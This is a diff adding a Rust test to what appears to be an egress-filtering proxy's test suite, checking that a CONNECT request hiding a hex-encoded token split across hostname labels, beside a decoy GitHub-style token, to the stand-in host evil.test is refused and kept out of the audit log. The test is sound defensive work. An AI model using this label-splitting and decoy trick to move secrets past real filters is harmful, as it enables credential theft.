@@ -98,6 +98,20 @@ fn hex(s: &str) -> String {
     s.bytes().map(|b| format!("{b:02x}")).collect()
 }
 
+/// A decoy the content rules catch in one label must not keep the label
+/// checks from blanking a known secret split across the next two: the
+/// refused CONNECT's event carries neither half.
+#[tokio::test]
+async fn a_decoy_does_not_shield_a_split_secret_in_the_log() {
+    let (p, _rec) = setup().await;
+    let h = hex(TOKEN);
+    let (head, tail) = h.split_at(h.len() / 2);
+    let decoy = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+    let (s, text, _) = connect(p.addr, &format!("{decoy}.{head}.{tail}.evil.test:443")).await;
+    assert_eq!(s, 403, "{text}");
+    p.events_without(&[head, tail, decoy]);
+}
+
 /// A header's name is sent as surely as its value: `X-<hex of the token>:
 /// 1` to an allowed host must not carry the token out, nor leave it in
 /// the audit log.
